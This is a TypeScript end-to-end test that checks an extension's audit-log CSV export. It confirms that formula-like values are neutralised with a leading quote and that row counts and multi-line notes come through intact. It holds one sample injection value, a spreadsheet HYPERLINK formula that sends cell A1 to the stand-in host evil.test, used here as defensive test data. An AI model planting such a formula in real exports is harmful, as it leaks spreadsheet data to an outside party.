import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from './support/csv';
import { Downloads } from './support/downloads';
import { ExportControl } from './support/export-control';
import { type E2eSession, startSession } from './support/session';

let session: E2eSession;
let downloads: Downloads;
beforeAll(async () => {
  session = await startSession();
  downloads = await Downloads.into(session.ext.browser);
  await session.signInExtension('admin');
});
afterAll(async () => {
  await downloads?.close();
  await session?.close();
});

/** What a spreadsheet would run as a formula if a cell started with it. */
const FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Open invoice")';

describe('exporting the log from the extension', () => {
  it('downloads the filtered rows as CSV with every formula-like value neutralized, as many rows as it says', async () => {
    const { admin, agent } = session.backend.api;
    const customer = await agent.json<{ id: string }>('POST', '/api/v1/customers', { name: FORMULA });
    // A note spanning lines with quotes, so the count must read quoted line breaks as part of a row.
    await agent.json('PATCH', `/api/v1/customers/${customer.id}`, { name: '@SUM(A1:A9)', custom: { note: 'line one\n"line two", -and +three' } });
    await agent.json('PATCH', `/api/v1/customers/${customer.id}`, { name: '+1 (555) 0100' });
    const filter = new URLSearchParams({ category: 'customer' });
    const expected = await admin.json<{ items: Array<{ id: string }> }>('GET', `/api/v1/audit?${filter}&limit=200`);

    const control = await ExportControl.open(session.ext, filter);
    const download = await downloads.expect(() => control.start());
    const result = await control.result();
    await control.close();

    expect(download.name).toMatch(new RegExp(`^auditdesk_demo-support_category-customer_\\d{4}-\\d\\d-\\d\\dT\\d\\d-\\d\\d-\\d\\dZ\\.csv$`));
    expect(result).toBe(`Saved ${expected.items.length} rows as ${download.name}`);

    const text = readFileSync(download.path, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header?.slice(0, 7)).toEqual(['Performed By', 'Date', 'Event', 'Section', 'Property', 'Before', 'After']);
    expect(rows).toHaveLength(expected.items.length);
    const column = (name: string) => header!.indexOf(name);
    expect(rows.map((row) => row[column('Event id')]).sort()).toEqual(expected.items.map((item) => item.id).sort());

    // No cell of the file starts as a formula; the values are there, behind a leading quote.
    const cells = rows.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const renames = rows.filter((row) => row[column('Property')] === 'name');
    expect(renames.map((row) => [row[column('Before')], row[column('After')]])).toEqual(
      expect.arrayContaining([
        [`'${FORMULA}`, "'@SUM(A1:A9)"],
        ["'@SUM(A1:A9)", "'+1 (555) 0100"],
      ]),
    );
    const note = rows.find((row) => row[column('Property')] === 'custom.note');
    expect(note?.[column('After')]).toBe('line one\n"line two", -and +three');
  });
});
